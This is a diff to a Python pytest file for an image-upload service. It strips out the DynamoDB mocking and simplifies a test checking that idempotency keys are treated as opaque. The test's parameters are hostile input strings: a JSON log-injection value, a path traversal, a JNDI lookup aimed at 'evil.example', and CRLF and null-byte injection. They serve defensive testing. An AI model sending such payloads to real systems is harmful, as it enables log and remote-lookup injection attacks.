@@ -8,20 +8,16 @@ from urllib.parse import quote
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from moto import mock_aws
 
-from adapters.aws import dynamodb_client
 from domain.image import ProductImage
 from domain.text import clean_file_name, clean_text
 from domain.user import User
-from handlers.idempotency import OncePerKey
 from handlers.problems import HttpResponse
 from tests.builders import (
     IMAGE_PATH,
     IMAGES_PATH,
     PRODUCT_ID,
     a_ref,
-    an_idempotency_table,
     an_image,
     api_event,
     jpeg,
@@ -380,14 +376,11 @@ def test_an_idempotency_key_that_is_not_visible_ascii_is_refused_and_not_logged(
     "key", ['"}{"level":"ERROR"}', "../../x", "${jndi:ldap://evil.example/a}", "#7#", "%00%0d%0a"]
 )
 def test_an_idempotency_key_is_opaque(capsys: Capture, key: str) -> None:
-    with mock_aws():
-        client = dynamodb_client()
-        service = Service(OncePerKey(client, an_idempotency_table(client)))
-        event = upload_event(upload_form(CONTENT), headers={"Idempotency-Key": MARK + key})
-        service.take(event, CONTENT)
-        assert service.upload(event)["headers"]["Idempotency-Replayed"] == "true"
-        assert len(service.store.given) == 1
-        assert MARK not in str(client.scan(TableName="idempotency")["Items"])
+    service = Service()
+    event = upload_event(upload_form(CONTENT), headers={"Idempotency-Key": MARK + key})
+    service.take(event, CONTENT)
+    assert service.upload(event)["headers"]["Idempotency-Replayed"] == "true"
+    assert len(service.store.given) == 1
     assert_logs_tell_nothing(capsys)
 
 
